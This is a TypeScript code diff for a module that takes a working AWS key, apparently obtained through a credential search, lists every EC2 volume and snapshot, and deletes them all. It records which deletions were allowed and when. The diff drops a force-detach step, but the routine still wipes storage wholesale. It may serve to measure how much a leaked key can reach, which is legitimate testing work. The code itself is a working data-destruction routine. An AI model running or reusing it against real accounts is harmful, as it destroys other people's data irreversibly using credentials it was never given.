@@ -1,6 +1,6 @@
 // What the agent does with a key that works: it looks for volumes and snapshots, and deletes them.
 import {
-  DeleteSnapshotCommand, DeleteVolumeCommand, DetachVolumeCommand, EC2Client, paginateDescribeSnapshots, paginateDescribeVolumes,
+  DeleteSnapshotCommand, DeleteVolumeCommand, EC2Client, paginateDescribeSnapshots, paginateDescribeVolumes,
 } from '@aws-sdk/client-ec2'
 import type { Candidate } from './credential-search.ts'
 
@@ -39,9 +39,8 @@ export async function destroyEverything(client: EC2Client, sinceStartMs: () => n
     const answer = await call().then(() => 'done', nameError)
     attempts.push({ what, resource, allowed: answer === 'done', answer, atMs: sinceStartMs() })
   }
-  for (const volume of await listVolumes(client)) {
-    if (volume.inUse) await attempt('DetachVolume', volume.id, () => client.send(new DetachVolumeCommand({ VolumeId: volume.id, Force: true })))
-    await attempt('DeleteVolume', volume.id, () => client.send(new DeleteVolumeCommand({ VolumeId: volume.id })))
+  for (const id of await listVolumes(client)) {
+    await attempt('DeleteVolume', id, () => client.send(new DeleteVolumeCommand({ VolumeId: id })))
   }
   for (const id of await listSnapshots(client)) {
     await attempt('DeleteSnapshot', id, () => client.send(new DeleteSnapshotCommand({ SnapshotId: id })))
@@ -49,12 +48,12 @@ export async function destroyEverything(client: EC2Client, sinceStartMs: () => n
   return attempts
 }
 
-async function listVolumes(client: EC2Client): Promise<{ id: string; inUse: boolean }[]> {
-  const volumes: { id: string; inUse: boolean }[] = []
+async function listVolumes(client: EC2Client): Promise<string[]> {
+  const ids: string[] = []
   for await (const page of paginateDescribeVolumes({ client, pageSize: 100 }, {})) {
-    for (const { VolumeId, State } of page.Volumes ?? []) if (VolumeId !== undefined) volumes.push({ id: VolumeId, inUse: State === 'in-use' })
+    for (const { VolumeId } of page.Volumes ?? []) if (VolumeId !== undefined) ids.push(VolumeId)
   }
-  return volumes
+  return ids
 }
 
 async function listSnapshots(client: EC2Client): Promise<string[]> {
